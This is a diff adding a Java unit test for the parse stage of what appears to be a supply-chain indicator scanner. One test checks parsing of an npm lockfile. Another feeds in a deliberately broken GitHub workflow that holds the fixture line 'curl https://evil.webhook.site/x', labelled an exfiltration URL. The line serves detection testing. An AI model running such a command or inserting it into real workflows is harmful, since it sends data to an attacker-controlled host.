@@ -1,0 +1,54 @@
+package io.iocstream.parse;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import io.iocstream.fetch.FetchedFile;
+import io.iocstream.fetch.FileOp;
+import io.iocstream.findings.Trigger;
+import io.iocstream.match.InventoryUpdate;
+import io.iocstream.pipeline.DeadLetter;
+import java.nio.charset.StandardCharsets;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import org.apache.flink.streaming.runtime.streamrecord.StreamRecord;
+import org.apache.flink.streaming.util.ProcessFunctionTestHarnesses;
+import org.junit.jupiter.api.Test;
+
+/** The parse stage: facts of every read file, and what a file that does not parse still tells the matcher. */
+class ParseFunctionTest {
+
+    private static final FetchedFile.ScanContext AT =
+            new FetchedFile.ScanContext("acme/app", "refs/heads/main", "c1", Trigger.PUSH, 1, 1);
+
+    @Test
+    void aRealLockfileGivesItsDependenciesHashAndRegistryHost() throws Exception {
+        byte[] lock = Files.readAllBytes(Path.of("src/test/resources/lockfiles/package-lock-v2/package-lock.json"));
+        try (var harness = ProcessFunctionTestHarnesses.forProcessFunction(new ParseFunction())) {
+            harness.processElement(FetchedFile.content(AT, "package-lock.json", lock), 0);
+
+            InventoryUpdate update = harness.extractOutputValues().get(0);
+            assertThat(update.op()).isEqualTo(FileOp.CONTENT);
+            assertThat(update.facts().dependencies()).isNotEmpty();
+            assertThat(update.facts().sha256()).matches("[0-9a-f]{64}");
+            assertThat(update.facts().hosts()).contains("registry.npmjs.org");
+        }
+    }
+
+    /** A workflow constructed for the test: not valid YAML, with an exfiltration URL in it. */
+    @Test
+    void aWorkflowThatDoesNotParseIsADeadLetterYetKeepsItsHashAndHosts() throws Exception {
+        byte[] broken = "name: x\non: push\njobs: [\n  curl https://evil.webhook.site/x\n"
+                .getBytes(StandardCharsets.UTF_8);
+        try (var harness = ProcessFunctionTestHarnesses.forProcessFunction(new ParseFunction())) {
+            harness.processElement(FetchedFile.content(AT, ".github/workflows/ci.yml", broken), 0);
+
+            InventoryUpdate update = harness.extractOutputValues().get(0);
+            assertThat(update.op()).isEqualTo(FileOp.FAILED);
+            assertThat(update.facts().hosts()).containsExactly("evil.webhook.site");
+            assertThat(update.facts().sha256()).matches("[0-9a-f]{64}");
+            assertThat(update.facts().dependencies()).isEmpty();
+            assertThat(harness.getSideOutput(DeadLetter.TAG)).extracting(StreamRecord::getValue)
+                    .singleElement().satisfies(d -> assertThat(d.origin()).endsWith(":.github/workflows/ci.yml"));
+        }
+    }
+}
